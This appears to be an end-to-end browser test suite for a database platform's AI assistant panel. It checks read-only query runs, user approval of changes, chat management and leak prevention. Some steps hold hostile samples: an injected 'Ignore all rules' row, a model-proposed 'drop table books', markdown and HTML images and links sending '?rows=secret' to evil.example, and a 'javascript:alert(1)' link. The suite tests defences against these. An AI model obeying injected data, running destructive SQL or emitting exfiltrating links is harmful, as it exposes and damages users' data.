import type { Page } from 'playwright-core'
import { beforeAll, expect } from 'vitest'
import { startModelServer, type ModelServerInTests } from '#control-plane/testing/model-server'
import { answer, block, keptChats, sellBooks } from '../testing/assistant-world.ts'
import { openPage, type Eyes } from '../testing/browser.ts'
import { createOrganization, createProject, reaches, runSql } from '../testing/client.ts'
import type { Account } from '../testing/client.ts'
import { atEnd } from '../testing/ends.ts'
import { newPerson } from '../testing/people.ts'
import type { Platform } from '../testing/platform.ts'
import { ownPlatform } from '../testing/shared-platform.ts'
import { story } from '../testing/story.ts'

let model: ModelServerInTests
let platform: Platform
let page: Page
let eyes: Eyes
let ada: Account
let ref: string
/** Addresses outside of the platform that the browser wanted something from. */
const elsewhere: string[] = []
beforeAll(async () => {
  model = await startModelServer(() => answer('Hello.'))
  atEnd(() => model.close())
  // Not configured at first: the second start of the same home has a model.
  platform = await ownPlatform()
  ada = await newPerson(platform)
  const slug = await createOrganization(ada, 'Acme')
  ref = (await createProject(ada, slug, 'Library')).ref
  await reaches(ada, ref, ['ACTIVE_HEALTHY'])
  await sellBooks(ada, ref)
  ;({ page, eyes } = await openPage(platform, { as: ada }))
  page.on('request', (request) => {
    const { hostname } = new URL(request.url())
    if (!['localhost', '127.0.0.1', ''].includes(hostname)) elsewhere.push(request.url())
  })
})

const panel = () => page.getByRole('complementary', { name: 'Assistant' })
const press = (name: string | RegExp) =>
  panel().getByRole('button', { name, exact: true }).last().click()
/** The answer that came last; buttons and results of earlier ones are not meant. */
const latest = () => panel().getByRole('article', { name: 'Assistant' }).last()
const pressLatest = (name: string) => latest().getByRole('button', { name, exact: true }).click()
const box = () => panel().getByLabel('Question')
const open = (path = '') => page.goto(`${platform.url}/project/${ref}${path}`)

async function ask(text: string): Promise<void> {
  await box().fill(text)
  await box().press('Enter')
}
const said = (text: string | RegExp) => panel().getByText(text).last().waitFor()
const menu = async (item: string) => {
  await press('Chat actions')
  await page.getByRole('menuitem', { name: item }).click()
}

const step = story('the assistant, from no model to answers that are run')

step(
  'without a model the panel says how to configure one, and its box why it is closed',
  async () => {
    await page.goto(`${platform.url}/organizations`)
    await page.getByRole('heading', { name: 'Organizations' }).first().waitFor()
    await expect.poll(() => page.getByRole('button', { name: 'Assistant' }).count()).toBe(0)

    await open()
    await page.getByRole('button', { name: 'Assistant' }).click()
    await panel().getByText('No model is configured').first().waitFor()
    await panel().getByText('OPENAI_API_KEY').waitFor()
    await expect.poll(() => box().isDisabled()).toBe(true)
    await eyes.look('60-assistant-off')
    await page.getByRole('button', { name: 'Close the assistant' }).click()
    await panel().waitFor({ state: 'hidden' })
  },
)

step(
  'the address forces the panel open or closed; the hotkey and a reload do not lose it',
  async () => {
    const { home, ports } = platform
    await platform.stop()
    platform = await ownPlatform({
      home,
      ports,
      environment: { OPENAI_BASE_URL: model.url, OPENAI_API_KEY: 'sk-of-the-platform-0123456789' },
    })
    await reaches(ada, ref, ['ACTIVE_HEALTHY'])
    await open('?aiAssistantPanelOpen=true')
    await panel().waitFor()
    await expect.poll(() => page.url()).not.toContain('aiAssistantPanelOpen')
    await open('?aiAssistantPanelOpen=false')
    await page.getByRole('button', { name: 'Assistant' }).waitFor()
    await expect.poll(() => page.url()).not.toContain('aiAssistantPanelOpen')
    await expect.poll(() => panel().count()).toBe(0)
    await page.keyboard.press('ControlOrMeta+i')
    await panel().waitFor()
    await expect.poll(() => box().evaluate((element) => element.matches(':focus'))).toBe(true)
    await expect.poll(() => keptChats(page, ref)).toContain('"open":true')
    await page.reload()
    await panel().waitFor()
  },
)

step('an answer streams; its SQL runs on a click, in a transaction that only reads', async () => {
  model.answerWith(() =>
    answer(
      'The **most sold** book, see [the manual](https://www.postgresql.org/docs/17/sql-select.html):',
      block('select title, sold\nfrom books\norder by sold desc'),
      'That is all.',
    ),
  )
  // Whoever is quicker than the answer whether there is a model need not ask twice.
  let tell: () => void = () => undefined
  const told = new Promise<void>((resolve) => (tell = resolve))
  await page.route('**/platform/ai/status', async (route) => {
    await told
    await route.continue()
  })
  await page.reload()
  await ask('Which book sold best?')
  tell()
  await said('That is all.')
  await page.unroute('**/platform/ai/status')
  await expect
    .poll(() => panel().getByRole('heading', { level: 2 }).textContent())
    .toBe('Which book sold best?')
  // Nothing runs by itself.
  await expect.poll(() => panel().getByRole('table').count()).toBe(0)
  await pressLatest('Run')
  await panel().getByRole('cell', { name: 'Stones' }).waitFor()
  await panel()
    .getByText(/^3 rows/)
    .waitFor()
  await eyes.look('61-assistant-answer')

  // The organization has not opted in: the model got the words and nothing of the database.
  const { body, authorization } = model.asked.at(-1) ?? {}
  expect(authorization).toBe('Bearer sk-of-the-platform-0123456789')
  expect(JSON.stringify(body)).not.toContain('books (')
  expect(body?.tools).toBeUndefined()
})

step('what a row says is no order: nothing runs, and results do not reach the model', async () => {
  model.answerWith(() => answer('As the row says:', block('drop table books')))
  await ask('Summarize what I ran')
  await said('As the row says:')
  const prompt = JSON.stringify(model.asked.at(-1)?.body)
  expect(prompt).toContain('order by sold desc')
  expect(prompt).not.toContain('Ignore all rules')
  expect(await runSql(ada, ref, 'select count(*)::int as n from books')).toEqual([{ n: 3 }])

  await pressLatest('Run')
  await latest()
    .getByText(/This did not run/)
    .waitFor()
  await eyes.look('62-assistant-refused')
  expect(await runSql(ada, ref, 'select count(*)::int as n from books')).toEqual([{ n: 3 }])
})

step('a change runs after its person has seen the statement and allowed it', async () => {
  model.answerWith(() => answer('Then:', block('update books set sold = 31 where id = 2')))
  await ask('Correct the number')
  await said('Then:')
  await pressLatest('Run')
  await latest()
    .getByText(/This did not run/)
    .waitFor()
  await pressLatest('Allow changes…')
  const dialog = page.getByRole('dialog')
  await dialog.getByText('update books set sold = 31 where id = 2').waitFor()
  await eyes.look('63-assistant-allow')
  await dialog.getByRole('button', { name: 'Cancel' }).click()
  expect(await runSql(ada, ref, 'select sold from books where id = 2')).toEqual([{ sold: 30 }])
  await pressLatest('Allow changes…')
  await dialog.getByRole('button', { name: 'Allow and run' }).click()
  await latest()
    .getByText(/^UPDATE · 1/)
    .waitFor()
  expect(await runSql(ada, ref, 'select sold from books where id = 2')).toEqual([{ sold: 31 }])
  // The next change asks again, by itself.
  model.answerWith(() => answer('Back:', block('update books set sold = 30 where id = 2')))
  await ask('And back')
  await said('Back:')
  await pressLatest('Run')
  await dialog.getByText('Run this change?').waitFor()
  await dialog.getByRole('button', { name: 'Cancel' }).click()
  expect(await runSql(ada, ref, 'select sold from books where id = 2')).toEqual([{ sold: 31 }])
})

step('images and links of an answer leak nothing, HTML stays text', async () => {
  model.answerWith(() =>
    answer(
      '![pixel](https://evil.example/pixel.png?rows=secret) <img src="https://evil.example/html.png"> ',
      '[click me](https://evil.example/?rows=secret) [run](javascript:alert(1)) The end.',
    ),
  )
  await ask('Show a picture')
  await said(/The end\./)
  await expect.poll(() => panel().getByRole('img').count()).toBe(0)
  expect(
    await panel()
      .getByRole('link', { name: /click|run/ })
      .count(),
  ).toBe(0)
  await panel().getByText('(https://evil.example/?rows=secret)').waitFor()
  expect(elsewhere).toEqual([])
})

step('a failed query is offered back; stop, retry and edit ask anew', async () => {
  model.answerWith(() => answer('Try:', block('select nonsense from books')))
  await ask('Try something')
  await said('Try:')
  await pressLatest('Run')
  await said(/column "nonsense" does not exist/)
  model.answerWith(() => ({ status: 500, error: 'down' }))
  await pressLatest('Ask about this error')
  await said('No answer')
  await eyes.look('64-assistant-failed')
  model.answerWith(() => ({ hang: ['Let me thi'] }))
  await press('Retry')
  await said('Let me thi')
  await press('Stop')
  await model.asked.at(-1)?.left
  model.answerWith((asked) =>
    answer(`You said ${asked.body.messages.filter(({ role }) => role === 'user').length} things.`),
  )
  await press('Regenerate')
  await said(/You said \d+ things/)

  const first = panel().getByRole('article', { name: 'You' }).first()
  await first.getByRole('button', { name: 'Edit and ask again' }).click()
  await ask('Which book sold worst?')
  await said('You said 1 things.')
  await expect.poll(() => panel().getByRole('article').count()).toBe(2)
})

step('tables and queries are attached to a question', async () => {
  await press('Attach tables and queries')
  await page.getByRole('option', { name: /books/ }).click()
  await panel().getByRole('list', { name: 'Attached' }).getByText('public.books').waitFor()
  await eyes.look('65-assistant-attached')
  await ask('What is this?')
  await said('You said 2 things.')
  expect(JSON.stringify(model.asked.at(-1)?.body)).toContain('public.books')
})

step('chats are made, found, renamed, deleted, and survive a reload', async () => {
  await menu('Rename')
  await page.getByRole('dialog').getByLabel('Name').fill('Sales')
  await page.getByRole('dialog').getByRole('button', { name: 'Rename' }).click()
  await panel().getByRole('heading', { name: 'Sales' }).waitFor()
  await press('New chat')
  model.answerWith(() => answer('Of the second chat.'))
  await ask('Another thing')
  await said('Of the second chat.')
  await expect.poll(() => keptChats(page, ref)).toContain('Of the second chat.')
  await page.reload()
  // The one that changed last is active.
  await said('Of the second chat.')
  await panel()
    .getByRole('button', { name: /^Chat:/ })
    .click()
  await page.getByPlaceholder('Find a chat').fill('sal')
  await eyes.look('66-assistant-chats')
  await page.getByRole('option', { name: /Sales/ }).click()
  await said('You said 2 things.')
  await menu('Delete chat')
  await page.getByRole('dialog').getByRole('button', { name: 'Delete chat' }).click()
  await panel().getByRole('heading', { name: 'Another thing' }).waitFor()
  await menu('Clear messages')
  await page.getByRole('dialog').getByRole('button', { name: 'Clear messages' }).click()
  await panel().getByText('Ask about this project').first().waitFor()
})

step('SQL goes on in the SQL editor; on a phone the panel fills the screen', async () => {
  model.answerWith(() => answer('Here:', block('select title from books')))
  await ask('List them')
  await said('Here:')
  await pressLatest('Edit in SQL editor')
  await expect.poll(() => page.url()).toMatch(/\/sql\/[0-9a-f-]{36}$/)
  await page.locator('.monaco-editor').getByText('title').first().waitFor()
  await page.setViewportSize({ width: 390, height: 844 })
  await eyes.look('67-assistant-phone')
  const { width } = (await panel().boundingBox()) ?? { width: 0 }
  expect(width).toBe(390)
  await page.getByRole('button', { name: 'Close the assistant' }).click()
  await panel().waitFor({ state: 'hidden' })
})

step('signing out forgets every chat; nothing of this went anywhere else', async () => {
  await page.goto(`${platform.url}/logout`)
  await page.getByRole('heading', { name: 'Sign in' }).waitFor()
  const names = await page.evaluate(async () =>
    (await indexedDB.databases()).map(({ name }) => name),
  )
  expect(names).not.toContain('ai-assistant-db')
  expect(elsewhere).toEqual([])
  expect(platform.output()).not.toContain('sk-of-the-platform')
  const own = eyes.errors.filter((line) => !line.includes('Failed to load resource'))
  expect(own).toEqual([])
})
